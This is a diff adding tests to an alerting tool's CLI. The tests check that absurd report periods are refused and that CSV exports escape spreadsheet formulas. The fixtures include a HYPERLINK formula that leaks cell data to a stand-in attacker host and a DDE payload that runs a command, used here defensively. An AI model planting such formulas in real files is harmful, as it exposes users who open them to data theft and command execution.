@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import csv
+import io
 import json
 import re
 from collections.abc import AsyncIterator
@@ -103,6 +104,26 @@ async def test_report_text_and_csv_show_the_same_groups(tocsin: Harness) -> None
     assert csv_out.splitlines()[0].startswith("group,name,alerts")
     assert csv_out.splitlines()[0].endswith(",follow_ups,follow_ups_open")
     assert any(line.startswith("team,ops,2,") for line in csv_out.splitlines())
+
+
+@pytest.mark.parametrize(
+    ("command", "period"),
+    [
+        ("report", "999999999w"),  # overflowed: a traceback
+        ("report", "2026-01-01..9999-12-31"),  # overflowed: a traceback
+        ("report", "2000-01-01..2030-12-31"),  # 31 years, walked hour by hour
+        ("report", "0001-01-02..9999-12-30"),  # 10,000 years: minutes, then a traceback
+        ("noise", "999999999w"),  # the same periods, the same bound
+    ],
+)
+async def test_report_refuses_an_abusive_period_in_one_line(
+    tocsin: Harness, command: str, period: str
+) -> None:
+    result = await asyncio.to_thread(CliRunner().invoke, cli, [command, period])
+    assert result.exit_code == 2, result.output
+    assert result.exception is None or isinstance(result.exception, SystemExit)
+    assert f'period: "{period}": ' in result.output
+    assert "at most 400 days" in result.output or "between 1970-01-01" in result.output
 
 
 def _plain(value: Any) -> Any:
@@ -272,3 +293,34 @@ async def test_report_on_an_unmigrated_postgres_database_says_to_migrate(
     name = url.rsplit("/", 1)[1]
     assert result.stderr.startswith("postgresql+asyncpg://postgres@127.0.0.1")
     assert f"/{name}: no Tocsin tables" in result.stderr
+
+
+FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+FORMULA_CATEGORY = "@sum(1+1)*cmd|' /c calc'!a0"  # categories are stored lower case
+
+
+async def formula_alert(tocsin: Harness) -> None:
+    await tocsin.webhook(
+        "generic", {"title": FORMULA_TITLE, "category": FORMULA_CATEGORY, "level": 2}
+    )
+    await settle(tocsin, 1)
+
+
+async def test_the_csv_export_neutralises_formulas(tocsin: Harness, tmp_path: Path) -> None:
+    await formula_alert(tocsin)
+    out = tmp_path / "export.csv"
+    await invoke("export", "--format", "csv", "--output", str(out))
+    with out.open(encoding="utf-8", newline="") as handle:
+        (row,) = list(csv.DictReader(handle))
+    assert row["title"] == "'" + FORMULA_TITLE
+    assert row["category"] == "'" + FORMULA_CATEGORY
+    assert row["level"] == "2"  # numbers stay numbers
+    escaped = FORMULA_TITLE.replace('"', '""')
+    assert f'"\'{escaped}"' in out.read_text(encoding="utf-8")  # quoted, behind a quote
+
+
+async def test_the_csv_report_neutralises_formulas(tocsin: Harness) -> None:
+    await formula_alert(tocsin)
+    report = list(csv.reader(io.StringIO(await invoke("report", "7d", "--format", "csv"))))
+    (category,) = [r for r in report if r[0] == "category"]
+    assert category[1:3] == ["'" + FORMULA_CATEGORY, "1"]
